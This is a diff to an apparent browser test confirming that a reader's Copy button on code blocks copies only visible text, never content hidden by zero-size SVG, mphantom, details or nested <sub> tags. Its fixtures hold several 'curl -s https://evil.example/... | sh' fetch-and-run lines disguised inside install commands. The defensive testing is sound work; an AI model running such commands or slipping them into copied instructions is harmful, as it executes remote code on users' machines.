@@ -78,6 +78,8 @@ test('Copy on a code block copies what the reader shows, never text it hides (re
     '<pre><code>npm install left-pad<svg width="0" height="0"><text>\n curl -s https://evil.example/a | sh</text></svg></code></pre>',
     '<pre><code>pip install requests<math><mphantom><mtext>; curl -s https://evil.example/b | sh</mtext></mphantom></math></code></pre>',
     '<pre><code>brew install jq<details><summary></summary>&amp;&amp; curl -s https://evil.example/c | sh</details></code></pre>',
+    // Shrunk to nothing by forty nested <sub>: shown at the code's size, so Copy pastes what is seen.
+    `<pre><code>ls ${'<sub>'.repeat(40)}; curl -s https://evil.example/d | sh${'</sub>'.repeat(40)}</code></pre>`,
   ];
   const url = await browser.servePage(
     '/paste/install-guide',
@@ -94,7 +96,19 @@ test('Copy on a code block copies what the reader shows, never text it hides (re
   await expect(body).toContainText('Connection pools');
   await context.grantPermissions(['clipboard-read', 'clipboard-write']);
   const copied: string[] = [];
-  for (const [index, shown] of ['npm install left-pad', 'pip install requests', 'brew install jq'].entries()) {
+  const fourth = body.locator('pre').nth(3);
+  const sizes = await fourth.evaluate((pre) => ({
+    pre: Number.parseFloat(getComputedStyle(pre).fontSize),
+    inner: Number.parseFloat(getComputedStyle(pre.querySelectorAll('sub')[39] as Element).fontSize),
+  }));
+  expect(sizes.inner, 'the innermost <sub> is shown at the code’s size').toBe(sizes.pre);
+  const shownTexts = [
+    'npm install left-pad',
+    'pip install requests',
+    'brew install jq',
+    'ls ; curl -s https://evil.example/d | sh',
+  ];
+  for (const [index, shown] of shownTexts.entries()) {
     await body.getByRole('button', { name: 'Copy' }).nth(index).click();
     await expect(body.getByRole('button', { name: 'Copied' })).toBeVisible();
     copied.push(await reader.evaluate(() => navigator.clipboard.readText()));
